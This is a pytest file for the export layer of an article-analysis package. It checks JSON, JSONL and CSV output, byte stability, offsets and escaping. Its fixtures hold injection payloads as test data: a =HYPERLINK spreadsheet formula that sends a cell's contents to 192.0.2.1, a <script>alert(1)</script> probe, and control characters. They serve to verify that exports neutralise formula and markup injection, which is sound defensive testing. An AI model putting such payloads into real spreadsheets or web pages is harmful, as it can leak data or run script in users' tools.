"""What holds for every download, and what the tables say."""

import csv
import json
import pkgutil
import subprocess
import sys
from dataclasses import replace
from io import BytesIO, StringIO
from zipfile import ZipFile

import pytest

import framing.exports
from framing.codec import from_dict, from_json
from framing.exports import Export, Group, exports
from framing.exports._csv import FORMULA_STARTS, Table, encode
from framing.exports._rows import TABLES
from framing.laws import check
from framing.types import Analysis, Span, Tones
from tests.builders import PORT_LAKE, TEXT, analysis, sha256

BY_NAME = {export.name: export for export in exports()}


def empty() -> Analysis:
    return replace(
        analysis(), actors=(), claims=(), hedges=(), contests=(), silences=(), stances=(), acts=(), frames=(),
        tones=Tones(), edits=(),
    )  # fmt: skip


def rows(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(StringIO(content.decode("utf-8-sig"), newline=""), strict=True))


def table(name: str, record: Analysis) -> list[dict[str, str]]:
    return rows(encode(TABLES[name], record))


# Every export


def test_every_public_module_is_an_export():
    modules = {module.name for module in pkgutil.iter_modules(framing.exports.__path__)}
    assert {name for name in modules if not name.startswith("_")} == set(BY_NAME)
    assert {"record_json", "claims_csv", "tables_csv"} <= set(BY_NAME)


def test_names_labels_and_suffixes_are_distinct():
    for field in ("name", "label", "suffix"):
        assert len({getattr(export, field) for export in exports()}) == len(exports())


@pytest.mark.parametrize("export", exports(), ids=lambda export: export.name)
@pytest.mark.parametrize("record", ["full", "empty", "hostile"])
def test_an_export_writes_the_same_bytes_each_time(export: Export, record: str):
    made = {"full": analysis, "empty": empty, "hostile": hostile}[record]()
    assert export.suffix.startswith(".")
    assert export.mime.count("/") == 1
    written = export.write(made)
    assert isinstance(written, bytes)
    assert written == export.write(made)
    assert written


def test_the_hostile_record_keeps_the_laws():
    check(hostile())
    check(empty())


def test_every_group_has_an_export_and_csv_alone_has_a_byte_order_mark():
    assert {export.group for export in exports()} == set(Group)
    marked = {export.name for export in exports() if export.without_mark is not None}
    assert marked == {"claims_csv", "tables_csv"}
    assert BY_NAME["claims_csv"].without_mark(analysis()) == BY_NAME["claims_csv"].write(analysis())[3:]
    with ZipFile(BytesIO(BY_NAME["tables_csv"].without_mark(analysis()))) as archive:
        for name in TABLES:
            assert archive.read(f"{name}.csv") == encode(TABLES[name], analysis(), mark=False)


def test_no_library_of_a_format_is_loaded_before_its_export_is_written():
    code = "import sys, framing.exports as e; e.exports(); print(*sys.modules)"
    loaded = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True).stdout.split()
    assert "framing.exports.report_html" in loaded
    assert not {"cassis", "jinja2", "networkx", "spacy", "torch", "vl_convert", "xlsxwriter"} & set(loaded)


def test_the_lines_together_are_the_record():
    record: dict = {"tones": {"paragraphs": [], "actors": []}}
    for line in BY_NAME["record_jsonl"].write(hostile()).decode().split("\n")[:-1]:
        row = json.loads(line)
        table, id_ = row.pop("table"), row.pop("article_id")
        assert id_ == hostile().article.id
        if table == "article":
            record["schema"] = row.pop("schema")
        if table in {"article", "provenance"}:
            record[table] = row
        elif table.startswith("tones."):
            record["tones"][table.removeprefix("tones.")].append(row)
        else:
            record.setdefault(table, []).append(row)
    assert from_dict(record) == hostile()


HOSTILE = (
    '=HYPERLINK("http://192.0.2.1","x")<script>alert(1)</script>![x](http://192.0.2.1/y.png) '
    "]]>&\"'\x00\x0b\ufffe 🙂 \t|`x` www.example.org a@example.org"
)


def hostile() -> Analysis:
    """The same record with hostile text in what is left out, in a claim, in the title and in every name."""
    record = analysis()
    left_out = record.paragraphs[1]
    text = TEXT[: left_out.start] + HOSTILE[: left_out.end - left_out.start] + TEXT[left_out.end :] + HOSTILE
    article = replace(record.article, id=sha256(text), text=text, title=HOSTILE, source=HOSTILE, author=HOSTILE)
    tail = replace(record.paragraphs[2], end=len(text))
    actors_ = tuple(replace(actor, name=f"{HOSTILE}{actor.id}") for actor in record.actors)
    claims_ = (replace(record.claims[0], content=(*record.claims[0].content, Span(len(TEXT) + 1, len(text)))),)
    return replace(
        record,
        article=article,
        paragraphs=(*record.paragraphs[:2], tail),
        actors=actors_,
        claims=claims_ + record.claims[1:],
    )


def test_the_json_is_the_record():
    written = BY_NAME["record_json"].write(analysis()).decode()
    assert written.endswith("}\n")
    assert from_json(written) == analysis()


def test_the_claims_are_those_of_the_tables():
    with ZipFile(BytesIO(BY_NAME["tables_csv"].write(analysis()))) as archive:
        assert archive.testzip() is None
        assert archive.read("article.txt").decode() == TEXT
        assert archive.read("claims.csv") == BY_NAME["claims_csv"].write(analysis())
        assert set(archive.namelist()) == {"article.txt", *(f"{name}.csv" for name in TABLES)}


# Every table


@pytest.mark.parametrize("name", TABLES)
def test_a_table_is_strict_csv_with_its_article_first(name):
    content = encode(TABLES[name], analysis())
    assert content.startswith(b"\xef\xbb\xbfarticle_id,source_id,")
    assert content.count(b"\n") == content.count(b"\r\n")
    found = rows(content)
    assert found
    assert all(None not in row and None not in row.values() for row in found)
    assert {(row["article_id"], row["source_id"]) for row in found} == {(analysis().article.id, "7")}


@pytest.mark.parametrize("name", TABLES)
def test_offsets_quote_the_words_beside_them(name):
    for row in table(name, analysis()):
        for column in row:
            words = column.removesuffix("_start")
            if words != column and row[column]:
                quoted = TEXT[int(row[column]) : int(row[f"{words}_end"])]
                assert row[words].removeprefix("'") == quoted


@pytest.mark.parametrize("name", TABLES)
def test_an_empty_table_keeps_its_heading(name):
    heading = encode(TABLES[name], empty()).decode("utf-8-sig").split("\r\n")[0]
    assert heading == encode(TABLES[name], analysis()).decode("utf-8-sig").split("\r\n")[0]


def test_a_claim_is_told_in_words():
    joint, _, _, nested, _, own = table("claims", analysis())
    assert (joint["holder_name"], joint["side_name"], joint["act"]) == ("Lakeland", "Lakeland", "claim")
    assert (joint["content"], joint["content_spans"]) == ("could fail … not soon", "119..129 142..150")
    assert (joint["factuality"], joint["hedged"], joint["contested_by"]) == ("PS+", "true", "Tasmar")
    assert float(joint["score"]) == 0.1 + 0.2
    assert (nested["parent"], nested["side"]) == ("2", "0")
    assert (own["holder"], own["holder_name"], own["cue"]) == ("", "the article", "")


def test_a_member_has_the_name_of_its_side_and_a_place_has_none():
    mentions = {row["actor_name"]: row for row in table("mentions", analysis())}
    assert mentions["Ada Moss"]["actor_side_name"] == "Lakeland"
    assert (mentions["Port Lake"]["actor_side"], mentions["Port Lake"]["actor_side_name"]) == ("", "")
    assert table("actors", analysis())[PORT_LAKE]["side"] == ""


def test_every_label_has_its_probability():
    [act] = table("acts", analysis())
    assert (act["p_verbal_conflict"], act["p_material_cooperation"]) == ("0.5", "0.0")


# Spreadsheets


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_no_text_starts_a_formula(start):
    record = analysis()
    hostile = f'{start}HYPERLINK("http://192.0.2.1?"&A1,"x")'
    record = replace(
        record,
        article=replace(record.article, source_id=hostile, title=hostile),
        actors=(replace(record.actors[0], name=hostile), *record.actors[1:]),
    )
    for name in TABLES:
        for row in table(name, record):
            assert not any(cell.startswith(FORMULA_STARTS) for cell in row.values())
    [article] = table("article", record)
    assert article["title"] == f"'{hostile}"


@pytest.mark.parametrize("text", ['a "quoted", b', "a\r\nb", "a\rb", "a\nb", " a ", "a\x00b", "é🙂", "'"])
def test_a_cell_comes_back_as_it_was(text):
    [row] = rows(encode(Table(lambda _: (text,), {"cell": lambda _, row: row}), analysis()))
    assert row["cell"] == text


@pytest.mark.parametrize(("value", "cell"), [(None, ""), (True, "true"), (-1, "-1"), (1e-7, "1e-07"), (0.0, "0.0")])
def test_numbers_and_absence(value, cell):
    [row] = rows(encode(Table(lambda _: (value,), {"cell": lambda _, row: row}), analysis()))
    assert row["cell"] == cell
